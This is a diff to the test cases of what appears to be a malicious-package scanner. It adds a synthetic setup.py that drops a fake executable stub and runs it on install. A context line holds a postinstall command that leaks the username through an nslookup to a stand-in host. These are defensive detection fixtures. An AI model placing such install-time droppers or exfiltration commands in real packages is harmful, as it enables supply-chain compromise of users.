@@ -471,6 +471,26 @@ subprocess.Popen([_FILE])
     verdict: 'hold',
   },
   {
+    rule: 'bundled-executable',
+    name: 'setup.py writes a base64 PE it carries as a string to an .exe and starts it',
+    scan: () =>
+      sdist({
+        'setup.py': `import os, subprocess, tempfile
+from setuptools import setup
+blob = '${Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff', 'latin1'), Buffer.alloc(300, 7)]).toString('base64')}'
+path = os.path.join(tempfile.gettempdir(), 'svc.exe')
+with open(path, 'wb') as out:
+    out.write(blob.encode())
+subprocess.Popen(path, shell=True)
+setup(name='synthetic-pkg', version='1.0.0')
+`,
+      }),
+    file: 'setup.py',
+    line: 3,
+    weight: 100,
+    verdict: 'hold',
+  },
+  {
     rule: 'shell-exfiltration',
     name: 'postinstall runs nslookup $(whoami).probe.example.com',
     scan: () => npm({}, postinstall('nslookup $(whoami).probe.example.com')),
